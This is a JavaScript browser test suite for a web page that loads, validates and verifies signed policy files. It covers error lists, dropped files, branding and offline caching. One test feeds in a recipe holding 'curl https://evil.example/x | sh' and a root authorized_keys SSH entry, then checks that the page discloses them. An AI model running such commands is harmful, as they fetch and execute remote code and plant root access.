// The page by an organisation's policy, which its `index.html` names: taken, verified, or refused with every mistake.

import assert from "node:assert/strict";
import { join } from "node:path";
import { after, before, beforeEach, test } from "node:test";

import { makeKey } from "../minisign.mjs";
import { SCREENSHOTS, begun, fillReady, startForVisits, verdict } from "./page.mjs";

let host;
before(async () => {
  host = await startForVisits();
});
beforeEach(() => {
  host.files = {};
  host.change = undefined;
});
after(() => host.stop());

const ACME = { name: "acme", version: "3", change: { "http-store": { severity: "error" } } };
const json = (value) => Buffer.from(JSON.stringify(value));

/** Has `index.html` say more in its head. */
function head(...elements) {
  host.change = (name, content) => (name === "index.html" ? String(content).replace("</head>", `${elements.join("")}</head>`) : content);
}

const link = (attributes = "", href = "policy.json") => `<link rel="dynaboot-policy" href="${href}"${attributes}>`;

/** A visit, all that it asks the network for, and what it complains about. */
async function visit({ fragment = "", ready = begun } = {}) {
  const context = await host.browser.newContext({ serviceWorkers: "block", viewport: { width: 1440, height: 900 } });
  const page = await context.newPage();
  const requests = [];
  const complaints = [];
  page.on("request", (request) => requests.push(request.url().replace(host.address, "")));
  page.on("pageerror", (error) => complaints.push(String(error)));
  await page.goto(host.address + fragment);
  await ready(page);
  return { page, requests, complaints, close: () => context.close() };
}

/** A page that answers nothing, and all that it says of why. */
async function refused() {
  const { page, complaints, close } = await visit();
  const alert = page.getByRole("alert");
  await alert.waitFor();
  const words = await page.locator("body").innerText();
  assert.equal(await page.getByRole("heading", { name: "The policy of this page cannot be used" }).count(), 1);
  assert.equal(await verdict(page).count(), 0);
  assert.equal(await page.locator("select, input, textarea").count(), 0);
  assert.ok(!/Ready|Blocked|Incomplete|builtin/.test(words), words);
  const mistakes = await page.getByRole("list", { name: "Mistakes", exact: true }).getByRole("listitem").allInnerTexts();
  assert.deepEqual(complaints, []);
  return { page, words, mistakes, close };
}

test("without the link, nothing is asked for", async () => {
  const { page, requests, close } = await visit();
  assert.match(await page.locator("footer").innerText(), /policy builtin 1/);
  assert.deepEqual(
    requests.filter((name) => /policy|minisig/.test(name.replace(/page-|\.css/g, ""))),
    [],
  );
  await close();
});

test("the page answers by the policy that it names, and says which", async () => {
  host.files = { "policy.json": json(ACME) };
  head(link());
  const { page, requests, complaints, close } = await visit();
  assert.deepEqual(
    requests.filter((name) => name.includes("policy.json")),
    ["policy.json"],
  );
  assert.match(await page.locator("footer").innerText(), /policy acme 3/);
  await fillReady(page);
  assert.match(await verdict(page).innerText(), /^Blocked/, "the store's plain HTTP is an error here");
  await page.getByRole("link", { name: "Policy", exact: true }).click();
  await page.getByRole("heading", { name: "Policy acme 3", exact: true }).waitFor();
  assert.equal(await page.getByText("Verified", { exact: true }).count(), 0);
  assert.deepEqual(complaints, []);
  await close();
});

test("what a recipe of the policy does is said", async () => {
  const linux = { present: ["/opt/acme/bin"], bundle: "other.example/a.tar.gz", install: ["sh", "-c", "curl https://evil.example/x | sh"] };
  const handover = [{ path: "/root/.ssh/authorized_keys", line: "ssh-ed25519 AAAA" }];
  const recipe = { linux: { ...linux, handover, arches: ["x86_64"] } };
  const acme = { label: "Acme", table: "mechanics", packageStore: false, settings: [], source: { from: "dynaboot" }, ...recipe };
  host.files = { "policy.json": json({ ...ACME, defaultAgent: "acme", agents: { acme } }) };
  head(link());
  const { page, complaints, close } = await visit();
  const part = page.locator(".Part", { has: page.getByRole("heading", { name: "A recipe that is not built in", exact: true }) });
  await page.getByLabel("Cloud", { exact: true }).selectOption("aws");
  await page.getByLabel("System", { exact: true }).selectOption("debian-12");
  const words = await part.innerText();
  const does = ["curl https://evil.example/x | sh", "/root/.ssh/authorized_keys", "other.example"];
  assert.deepEqual(
    does.filter((said) => !words.includes(said)),
    [],
  );
  assert.deepEqual(complaints, []);
  await close();
});

test("until the policy is there, the page shows neither form nor answer, and begins by itself", async () => {
  host.files = { "policy.json": json(ACME) };
  head(link());
  const context = await host.browser.newContext({ serviceWorkers: "block" });
  const page = await context.newPage();
  let letCome;
  const come = new Promise((resolve) => (letCome = resolve));
  await page.route(/policy\.json$/, async (route) => {
    await come;
    await route.continue();
  });
  await page.goto(host.address);
  await page.getByRole("heading", { name: "dynaboot", exact: true }).waitFor();
  assert.equal(await verdict(page).isVisible(), false);
  assert.equal(await page.locator("footer").isVisible(), false, "it names the built-in policy");
  // What the browser fills in again after a reload counts, although nobody sees it yet.
  await page.locator("#at-cloud").evaluate((select) => (select.value = "aws"));
  await page.getByRole("button", { name: "Theme", exact: true }).click();
  letCome();
  // No sign of a reader: nobody touches the page.
  await page.waitForFunction(() => performance.getEntriesByName("dynaboot-begun").length > 0);
  assert.equal(await page.getByLabel("Cloud", { exact: true }).inputValue(), "aws");
  await page.locator("[data-theme=dark]").waitFor();
  assert.match(await page.locator("footer").innerText(), /policy acme 3/);
  await context.close();
});

test("a policy that is wrong is shown with every mistake, and nothing is answered", async () => {
  host.files = { "policy.json": json({ ...ACME, chnage: {}, clouds: { aws: { labl: "AWS" } } }) };
  head(link());
  const { page, mistakes, words, close } = await refused();
  assert.equal(mistakes.length, 2);
  assert.match(mistakes.join("\n"), /chnage: unknown field chnage, did you mean change\?\s+Expected one of/);
  assert.match(mistakes.join("\n"), /clouds\.aws\.labl: .*did you mean label\?/);
  assert.match(words, /policy\.json/);
  await page.screenshot({ path: join(SCREENSHOTS, "policy-refused.png") });
  await close();
});

test("a policy that cannot be had, or is none, says so", async () => {
  for (const [href, files, told] of [
    ["policy.json", {}, /the answer 404 at http.*policy\.json/],
    ["policy.json", { "policy.json": Buffer.from("<!DOCTYPE html><title>Sign in</title>") }, /text that is no JSON/],
    ["policy.json", { "policy.json": Buffer.from([0x7b, 0xff]) }, /no UTF-8/],
    ["policy.json", { "policy.json": Buffer.alloc(4 * 1024 * 1024 + 1, " ") }, /at most 4 MiB/],
    ["https://policies.example.com/policy.json", {}, /another origin, https:\/\/policies\.example\.com/],
    ["", {}, /no address/],
    ["http://[", {}, /no address/],
  ]) {
    host.files = files;
    head(link("", href));
    const { mistakes, close } = await refused();
    assert.equal(mistakes.length, 1);
    assert.match(mistakes[0], told);
    await close();
  }
});

test("a signed policy is verified, and one whose signature does not hold is refused", async () => {
  const [key, other] = [makeKey(), makeKey()];
  const bytes = json(ACME);
  for (const old of [false, true]) {
    host.files = { "policy.json": bytes, "policy.json.minisig": Buffer.from(key.sign(bytes, { old })) };
    head(link(` data-public-key="${key.line}"`));
    const { page, close } = await visit({ fragment: "#policy" });
    await page.getByRole("heading", { name: "Policy acme 3", exact: true }).waitFor();
    await page.getByText("Verified", { exact: true }).waitFor();
    await close();
  }
  const good = key.sign(bytes);
  for (const [signature, publicKey, told, policy = bytes] of [
    [good, key.line, /does not hold/, json({ ...ACME, version: "4" })],
    // It is not even looked at whether it is JSON.
    [good, key.line, /does not hold/, Buffer.from("{")],
    [good.replace("file:policy.json", "file:other.json"), key.line, /does not hold/],
    [good, other.line, /by another key/],
    [makeKey(key.id).sign(bytes), key.line, /does not hold/],
    ["no signature", key.line, /text that is no signature/],
    [undefined, key.line, /the answer 404 at .*policy\.json\.minisig/],
    [good, "", /public key that cannot be read/],
    [good, "RWabc", /public key that cannot be read/],
  ]) {
    host.files = { "policy.json": policy };
    if (signature) host.files["policy.json.minisig"] = Buffer.from(signature);
    head(link(` data-public-key="${publicKey}"`));
    const { mistakes, close } = await refused();
    assert.equal(mistakes.length, 1);
    assert.match(mistakes[0], told);
    await close();
  }
});

/** Drops a file onto the policy's view. */
async function drop(page, content, name = "acme.json") {
  const transfer = await page.evaluateHandle(
    ([content, name]) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([content], name, { type: "application/json" }));
      return transfer;
    },
    [content, name],
  );
  const view = page.locator("main.Policy");
  await view.dispatchEvent("dragover", { dataTransfer: transfer });
  await view.dispatchEvent("drop", { dataTransfer: transfer });
}

test("a policy that is dropped is tried with what was entered, and left again", async () => {
  const { page, requests, complaints, close } = await visit();
  await fillReady(page);
  const before = requests.length;
  assert.match(await verdict(page).innerText(), /^Ready/);
  await page.getByRole("link", { name: "Policy", exact: true }).click();
  await drop(page, JSON.stringify(ACME));
  await page.getByRole("heading", { name: "Policy acme 3", exact: true }).waitFor();
  await page.getByText("You are trying the policy acme 3").waitFor();
  assert.match(await page.locator("footer").innerText(), /policy acme 3/);
  await page.screenshot({ path: join(SCREENSHOTS, "policy-tried.png") });
  await page.getByRole("link", { name: "Plan", exact: true }).click();
  assert.match(await verdict(page).innerText(), /^Blocked/);
  assert.equal(await page.getByLabel("Broker host", { exact: true }).inputValue(), "broker.example.com");
  await page.getByRole("button", { name: "Back to the page's own policy", exact: true }).click();
  assert.match(await verdict(page).innerText(), /^Ready/);
  assert.equal(await page.getByText("You are trying").count(), 0);
  const asked = requests.slice(before).filter((name) => name !== "icon.svg");
  assert.deepEqual(asked, [], "it is read in the browser alone");
  assert.deepEqual(complaints, []);
  await close();
});

test("a policy can be picked by the keyboard, and what the new one does not know is said", async () => {
  const { page, close } = await visit();
  await fillReady(page);
  await page.getByRole("link", { name: "Policy", exact: true }).click();
  const picker = page.getByLabel("Policy file", { exact: true });
  // It is listened for before the key is pressed: the browser takes a moment to hand choosers over.
  const chosen = page.waitForEvent("filechooser");
  await picker.focus();
  assert.equal(await page.evaluate(() => document.activeElement.type), "file");
  await page.keyboard.press("Enter");
  const chooser = await chosen;
  await chooser.setFiles({
    name: "lab.json",
    mimeType: "application/json",
    buffer: json({ name: "lab", version: "1", clouds: { aws: null } }),
  });
  await page.getByRole("heading", { name: "Policy lab 1", exact: true }).waitFor();
  await page.getByRole("link", { name: "Plan", exact: true }).click();
  await page.getByText("This policy does not know what was entered for: Cloud.").waitFor();
  assert.equal(await page.getByLabel("System", { exact: true }).inputValue(), "centos-7");
  await page.reload();
  await begun(page);
  assert.match(await page.locator("footer").innerText(), /policy builtin 1/, "a trial ends with the visit");
  await close();
});

test("a dropped file that is no policy lists every mistake and changes nothing", async () => {
  const { page, complaints, close } = await visit({ fragment: "#policy" });
  for (const [content, told] of [
    [JSON.stringify({ ...ACME, chnage: {}, clouds: { aws: { labl: "AWS" } } }), [/chnage/, /clouds\.aws\.labl/]],
    ["no JSON", [/no JSON/]],
    ["", [/no JSON/]],
    [" ".repeat(4 * 1024 * 1024 + 1), [/at most 4 MiB/]],
  ]) {
    await drop(page, content, "wrong.json");
    const list = page.getByRole("list", { name: "Mistakes", exact: true });
    await list.getByText(told[0]).first().waitFor();
    const mistakes = await list.getByRole("listitem").allInnerTexts();
    assert.equal(mistakes.length, told.length);
    for (const words of told) assert.match(mistakes.join("\n"), words);
    await page.getByText("wrong.json is not used. The answers still follow from the policy builtin 1.").waitFor();
    await page.getByRole("heading", { name: "Policy builtin 1", exact: true }).waitFor();
  }
  await drop(page, JSON.stringify(ACME));
  await page.getByRole("heading", { name: "Policy acme 3", exact: true }).waitFor();
  assert.equal(await page.getByRole("list", { name: "Mistakes", exact: true }).count(), 0);
  assert.deepEqual(complaints, []);
  await close();
});

test("the page has the name, logo and colours of those whose it is", async () => {
  host.files = {
    "acme.css": Buffer.from(
      ':root { --dynaboot-accent: rgb(138, 21, 56); --dynaboot-logo: url("acme.svg"); --dynaboot-logo-width: 5rem; --dynaboot-radius: 0 }',
    ),
    "acme.svg": Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 50 20"><rect width="50" height="20" fill="#8a1538"/></svg>',
    ),
  };
  head(
    '<meta name="application-name" content="Acme &lt;VM&gt; check">',
    '<meta name="dynaboot-claim" content="Will it be managed?">',
    '<link rel="stylesheet" href="acme.css">',
  );
  const context = await host.browser.newContext({ serviceWorkers: "block", viewport: { width: 1440, height: 900 } });
  const page = await context.newPage();
  const complaints = [];
  page.on("console", (message) => message.type() === "error" && complaints.push(message.text()));
  await page.goto(host.address);
  await page.getByRole("heading", { name: "Acme <VM> check", exact: true }).waitFor();
  const early = await page.getByRole("banner").ariaSnapshot();
  await begun(page);
  assert.equal(await page.getByRole("banner").ariaSnapshot(), early, "the program says the same");
  await page.getByText("Will it be managed?", { exact: true }).waitFor();
  const logo = await page.locator(".Bar h1").evaluate((heading) => {
    const { width, backgroundImage } = getComputedStyle(heading, "::before");
    return { width, backgroundImage };
  });
  assert.equal(logo.width, "80px");
  assert.match(logo.backgroundImage, /some\/folder\/acme\.svg/);
  assert.equal(
    await page.locator(".Views a[aria-current]").evaluate((link) => getComputedStyle(link).borderBlockEndColor),
    "rgb(138, 21, 56)",
  );
  await page.screenshot({ path: join(SCREENSHOTS, "own-page.png") });
  assert.deepEqual(complaints, []);
  await context.close();
});

test("without a network the page answers by the policy that it read last, with one by the newest", async () => {
  const key = makeKey();
  const publish = (version) => {
    const bytes = json({ ...ACME, version });
    host.files = { "policy.json": bytes, "policy.json.minisig": Buffer.from(key.sign(bytes)) };
  };
  const context = await host.browser.newContext();
  const page = await context.newPage();
  const foot = async (words) => {
    await page.waitForFunction(() => performance.getEntriesByName("dynaboot-begun").length > 0);
    assert.match(await page.locator("footer").innerText(), words);
  };
  const ownIsKept = () =>
    page.waitForFunction(async () => {
      const name = (await caches.keys()).find((name) => name.endsWith(" own"));
      return name && (await (await caches.open(name)).keys()).length === 2;
    });
  publish("3");
  // First it is hosted as it came, then somebody edits it.
  await page.goto(host.address);
  await begun(page);
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
  head(link(` data-public-key="${key.line}"`));
  await page.reload();
  await begun(page);
  await page.waitForFunction(async () =>
    (await (await caches.match(document.baseURI.replace(/#.*/, "")))?.text())?.includes("dynaboot-policy"),
  );
  await page.reload();
  await foot(/policy acme 3/);
  await ownIsKept();
  publish("4");
  await page.reload();
  await foot(/policy acme 4/);
  await page.waitForFunction(async () => {
    const name = (await caches.keys()).find((name) => name.endsWith(" own"));
    const kept = name && (await (await caches.open(name)).match("policy.json"));
    return (await kept?.json())?.version === "4";
  });
  host.refuse = true;
  try {
    await page.reload();
    await foot(/policy acme 4/);
  } finally {
    host.refuse = false;
  }
  await context.close();
});
